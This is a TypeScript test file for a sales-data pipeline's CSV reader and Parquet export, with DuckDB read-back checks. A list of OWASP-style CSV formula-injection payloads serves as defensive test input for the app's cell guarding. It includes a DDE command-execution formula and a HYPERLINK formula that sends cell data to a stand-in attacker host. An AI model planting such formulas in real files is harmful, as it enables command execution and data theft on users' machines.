import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRecordsInBytes } from '../../src/core/export/csvRecordsInBytes.ts';
import { parquetTypes } from '../../src/core/export/parquetTypes.ts';
import { csvToParquet, guardedColumns } from '../../src/core/export/toParquet.ts';
import { generateCsv } from '../../src/core/generate/generate.ts';
import { defaultLookups } from '../../src/core/lookups/defaults.ts';
import { withDefaults } from '../../src/core/options.ts';
import { csvLine, quoteCell, startsWithGuard, textCell, unguardText } from '../../src/core/output/csv.ts';
import { tableFiles } from '../../src/core/pipeline/tables.ts';
import { runInMemory } from '../../src/core/pipeline/runInMemory.ts';
import { expectSameTable, parquetRowGroups, parquetRows, parquetSchema } from '../support/duckdbCompare.ts';
import { ParquetRows } from '../../src/core/export/ParquetRows.ts';
import type { ParquetType } from '../../src/core/export/parquetTypes.ts';
import { ByteWriter, ParquetWriter, type SchemaElement } from 'hyparquet-writer';

const encoder = new TextEncoder();

async function* blocks(bytes: Uint8Array, sizes: number[]): AsyncGenerator<Uint8Array> {
  let at = 0;
  for (let k = 0; at < bytes.length; k++) {
    const size = sizes[k % sizes.length]!;
    yield bytes.slice(at, at + size);
    at += size;
  }
}

const decoder = new TextDecoder();

/** Every record of a CSV, read in bytes from the blocks, decoded. */
async function all(csv: AsyncIterable<Uint8Array>): Promise<string[][]> {
  const out: string[][] = [];
  const visit = (bytes: Uint8Array, starts: Int32Array, ends: Int32Array, count: number) =>
    out.push(Array.from({ length: count }, (_, i) => decoder.decode(bytes.subarray(starts[i], ends[i]))));
  for await (const _ of csvRecordsInBytes(csv, visit));
  return out;
}

describe('csvRecordsInBytes: reading back the CSV this app writes', () => {
  // No CR in a cell: the pipeline reads a quoted CR LF as LF, so no cell it writes holds one.
  const cell = fc.string({ unit: fc.constantFrom('a', 'é', '€', '😀', ',', '"', '\n', ' ', '=', "'") });
  const table = fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 20 });

  it('gives the cells written, whatever the blocks it is read in', async () => {
    await fc.assert(
      fc.asyncProperty(table, fc.array(fc.integer({ min: 1, max: 17 }), { minLength: 1, maxLength: 5 }), async (rows, sizes) => {
        const bytes = encoder.encode(rows.map((row) => csvLine(row.map(quoteCell))).join(''));
        expect(await all(blocks(bytes, sizes))).toEqual(rows);
      }),
      { numRuns: 300 },
    );
  });

  it('says so when the file ends inside a record', async () => {
    await expect(all(blocks(encoder.encode('a,b\r\n1,"2\r\n'), [4]))).rejects.toThrow('cut short');
  });
});

describe('unguardText undoes textCell', () => {
  const owasp = ["=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1,1)', '\tfoo', '\rfoo', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '=', '-x@y.com', '-5.00', "'quoted", "'-5.00", 'plain'];
  it.each(owasp)('%j', (value) => {
    const written = textCell(value);
    const [read] = written.startsWith('"') ? [written.slice(1, -1).replaceAll('""', '"')] : [written];
    expect(unguardText(read!)).toBe(value);
  });

  it('startsWithGuard finds in bytes the guard unguardText takes off', () => {
    const cell = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '.', '0', '7', 'e', 'é') });
    fc.assert(
      fc.property(cell, fc.string({ maxLength: 3 }), (value, around) => {
        const bytes = encoder.encode(around + value + around);
        const start = encoder.encode(around).length;
        expect(startsWithGuard(bytes, start, bytes.length - start)).toBe(unguardText(value) !== value);
      }),
      { numRuns: 2000 },
    );
    for (const value of owasp) {
      const written = textCell(value);
      const read = encoder.encode(written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written);
      expect(startsWithGuard(read, 0, read.length)).toBe(read.length !== encoder.encode(value).length);
    }
  });

  it('cannot tell a value that began with an apostrophe and a formula character from a guarded one', () => {
    expect(unguardText(textCell("'=1"))).toBe('=1');
  });
});

/** A row of cells written as a record in bytes, as the export reads them. */
function addCells(writer: ParquetRows, cells: string[]): Uint8Array | null {
  const encoded = cells.map((cell) => encoder.encode(cell));
  const bytes = new Uint8Array(encoded.reduce((n, cell) => n + cell.length, 0));
  const [starts, ends] = [new Int32Array(cells.length), new Int32Array(cells.length)];
  encoded.reduce((at, cell, i) => {
    bytes.set(cell, at);
    starts[i] = at;
    return (ends[i] = at + cell.length);
  }, 0);
  return writer.addRecord(bytes, starts, ends, cells.length);
}

describe('ParquetRows', () => {
  it('keeps empty cells as nulls in every type, before and after numbers in the same row group', async () => {
    const rows = [
      ['1', '1.5', '2024-02-29', 'a'],
      ['', '', '', ''],
      ['-9007199254740993', '-0.25', '1970-01-01', 'é,"'],
      ['4', '', '2000-12-31', ''],
      ['', '2', '', 'z'],
      ['-5', '0.1', '2038-01-19', 'é'],
      ['4294967296', '123456789012.345', '1900-03-01', 'x'],
      ['-4294967297', '1e3', '2024-12-31', 'y'],
      ['007', '.5', '1999-12-31', 'w'],
    ];
    const writer = new ParquetRows(['n', 'x', 'd', 's'], ['int64', 'double', 'date', 'string'], 2);
    const parts = rows.map((row) => addCells(writer, row)).filter((part) => part !== null);
    parts.push(writer.finish());
    const path = join(mkdtempSync(join(tmpdir(), 'rows-')), 'rows.parquet');
    writeFileSync(path, Buffer.concat(parts));
    expect(await parquetSchema(path)).toEqual([['n', 'BIGINT'], ['x', 'DOUBLE'], ['d', 'DATE'], ['s', 'VARCHAR']]);
    const expected = (cell: string, i: number) => (cell === '' ? null : i === 0 ? String(BigInt(cell)) : i === 1 ? String(Number(cell)) : cell);
    expect(await parquetRows(path)).toEqual(rows.map((row) => row.map(expected)));
  });

  it('writes the file hyparquet-writer’s ParquetWriter writes from the same values, byte for byte', () => {
    const types = fc.constantFrom<ParquetType>('string', 'int64', 'double', 'date');
    // A few values often (dictionaries), many once (plain pages), nulls among them.
    const cell = (type: ParquetType): fc.Arbitrary<string> => {
      const one =
        type === 'string' ? fc.string({ unit: fc.constantFrom('a', 'b', 'é', '😀', ' '), maxLength: 40 })
        : type === 'int64' ? fc.bigInt({ min: -(2n ** 63n), max: 2n ** 63n - 1n }).map(String)
        : type === 'double' ? fc.double({ noNaN: true, noDefaultInfinity: true }).map(String)
        : fc.integer({ min: -300_000, max: 2_900_000 }).map((day) => new Date(day * 86_400_000).toISOString().slice(0, 10));
      return fc.oneof(fc.constant(''), one, fc.constantFrom(...(type === 'date' ? ['2024-01-01', '2024-01-02'] : ['7', '8'])));
    };
    const table = fc.array(types, { minLength: 1, maxLength: 5 }).chain((columns) =>
      fc.tuple(fc.constant(columns), fc.array(fc.tuple(...columns.map(cell)), { maxLength: 60 }), fc.integer({ min: 1, max: 20 })),
    );
    fc.assert(
      fc.property(table, ([columns, rows, groupRows]) => {
        expect(ourFile(columns, rows, groupRows)).toEqual(writerFile(columns, rows, groupRows));
      }),
      { numRuns: 300 },
    );
  });

  it('cuts a column chunk into pages of about 1 MiB as hyparquet-writer does', () => {
    // Distinct letters Snappy cannot shrink: 1.6 MB of text, so the pages are cut where the values add up to 1 MiB.
    let seed = 1;
    const letter = () => String.fromCharCode(97 + ((seed = Math.imul(seed, 48271) % 0x7fffffff) % 26));
    const long = (row: number) => (row % 7 === 0 ? '' : Array.from({ length: 300 + (row % 50) }, letter).join(''));
    const rows = Array.from({ length: 5000 }, (_, row) => [long(row), String(row)]);
    const ours = ourFile(['string', 'int64'], rows, 5000);
    expect(ours).toEqual(writerFile(['string', 'int64'], rows, 5000));
    expect(ours.length).toBeGreaterThan(1 << 20);
  });

  it('refuses a cell that is not of its column’s type, naming the column', () => {
    const writer = new ParquetRows(['quantity'], ['int64']);
    expect(() => addCells(writer, ['2.5'])).toThrow('Column quantity: "2.5" is not a whole number.');
  });
});

const SCHEMA: Record<ParquetType, Omit<SchemaElement, 'name'>> = {
  string: { type: 'BYTE_ARRAY', converted_type: 'UTF8', repetition_type: 'OPTIONAL' },
  int64: { type: 'INT64', repetition_type: 'OPTIONAL' },
  double: { type: 'DOUBLE', repetition_type: 'OPTIONAL' },
  date: { type: 'INT32', converted_type: 'DATE', repetition_type: 'OPTIONAL' },
};

/** A table's file as ParquetRows writes it. */
function ourFile(types: ParquetType[], rows: string[][], groupRows: number): Uint8Array {
  const writer = new ParquetRows(types.map((_, i) => `c${i}`), types, groupRows);
  const parts = rows.map((row) => addCells(writer, row)).filter((part) => part !== null);
  return Buffer.concat([...parts, writer.finish()]);
}

/** The same table as hyparquet-writer's own ParquetWriter writes it from JavaScript values. */
function writerFile(types: ParquetType[], rows: string[][], groupRows: number): Uint8Array {
  const out = new ByteWriter();
  const schema: SchemaElement[] = [{ name: 'root', num_children: types.length }, ...types.map((type, i) => ({ name: `c${i}`, ...SCHEMA[type] }))];
  const writer = new ParquetWriter({ writer: out, schema, codec: 'SNAPPY', statistics: false, createdBy: 'sales-pipeline' });
  const value = (type: ParquetType, cell: string) =>
    cell === '' ? null
    : type === 'string' ? encoder.encode(cell)
    : type === 'int64' ? BigInt(cell)
    : type === 'double' ? Number(cell)
    : Date.parse(cell) / 86_400_000;
  for (let at = 0; at < rows.length; at += groupRows) {
    const group = rows.slice(at, at + groupRows);
    void writer.write({ columnData: types.map((type, i) => ({ name: `c${i}`, data: group.map((row) => value(type, row[i]!)), offsetIndex: false })), rowGroupSize: group.length });
  }
  void writer.finish();
  return Buffer.from(out.getBytes());
}

describe('Parquet files of a job, read back by DuckDB', () => {
  const hostile =
    'order_id,product_name,category,quantity,unit_price,discount_percent,region,sale_date\n' +
    `=1+1,"=HYPERLINK(""x"")",Electronics,2,10,0,North America,2024-03-05\n` +
    `@2,-Gift,=Electronics,1,5,0,North America,2024-03-05\n` +
    `ORD-9,"Multi\nline, ""quoted""",Grocery,3,2.5,0.1,Europe,2024-04-01\n` +
    `+3,Café ☕,Grocery,oops,1,0,Europe,2024-04-01,extra,"fields"\n`;
  const generated = [...generateCsv({ rows: 3000, seed: 5, clean: false, endDate: '2024-06-30' })].join('');

  it.each([
    ['hostile cells', hostile],
    ['3,000 generated dirty rows', generated],
  ])('every table of %s has the CSV rows and the declared types', async (_name, input) => {
    const result = await runInMemory(input, withDefaults({ reference_date: '2024-06-30' }), defaultLookups());
    const dir = mkdtempSync(join(tmpdir(), 'parquet-'));
    const files: Array<[string, string]> = [['cleaned_rows', result.cleanedCsv], ['rejected_rows', result.rejectedCsv], ...tableFiles(result.tables).map(([file, csv]): [string, string] => [file.replace(/\.csv$/, ''), csv])];
    expect(files).toHaveLength(12);
    for (const [name, csv] of files) {
      const parts: Uint8Array[] = [];
      // Small row groups and blocks: the file is read and written in many pieces.
      for await (const part of csvToParquet(name, blocks(encoder.encode(csv), [4096]), { groupRows: 700 })) parts.push(part);
      writeFileSync(join(dir, `${name}.csv`), csv);
      writeFileSync(join(dir, `${name}.parquet`), Buffer.concat(parts));
      const header = (await all(blocks(encoder.encode(csv), [1 << 20])))[0]!;
      const guarded = guardedColumns(name, header);
      const types = parquetTypes(name, header.map((c, i) => (guarded[i] ? unguardText(c) : c)));
      await expectSameTable(join(dir, `${name}.parquet`), join(dir, `${name}.csv`), types, guarded);
    }
    expect(Object.fromEntries(await parquetSchema(join(dir, 'cleaned_rows.parquet')))).toEqual({
      row_number: 'BIGINT',
      order_id: 'VARCHAR',
      product_name: 'VARCHAR',
      category: 'VARCHAR',
      quantity: 'BIGINT',
      unit_price: 'DOUBLE',
      discount_percent: 'DOUBLE',
      region: 'VARCHAR',
      sale_date: 'DATE',
      sale_ts: 'BIGINT',
      customer_email: 'VARCHAR',
      revenue: 'DOUBLE',
      anomaly_flag: 'VARCHAR',
    });
  }, 60_000);

  it('writes a footer of many row groups, each encoded as it is written, that DuckDB reads whole', async () => {
    const result = await runInMemory(generated, withDefaults({ reference_date: '2024-06-30' }), defaultLookups());
    const dir = mkdtempSync(join(tmpdir(), 'parquet-groups-'));
    const rows = result.cleanedCsv.split('\r\n').filter(Boolean).length - 1;
    // 1 and 14 groups take a list header of one byte; 15 and more, a byte and a count.
    for (const groupRows of [rows, Math.ceil(rows / 14), 7]) {
      const parts: Uint8Array[] = [];
      for await (const part of csvToParquet('cleaned_rows', blocks(encoder.encode(result.cleanedCsv), [4096]), { groupRows })) parts.push(part);
      const path = join(dir, `cleaned_rows-${groupRows}.parquet`);
      writeFileSync(path, Buffer.concat(parts));
      writeFileSync(join(dir, 'cleaned_rows.csv'), result.cleanedCsv);
      expect(await parquetRowGroups(path)).toEqual({ groups: Math.ceil(rows / groupRows), footerRows: rows, rows });
      const header = (await all(blocks(encoder.encode(result.cleanedCsv), [1 << 20])))[0]!;
      await expectSameTable(path, join(dir, 'cleaned_rows.csv'), parquetTypes('cleaned_rows', header), guardedColumns('cleaned_rows', header));
    }
  }, 60_000);
});
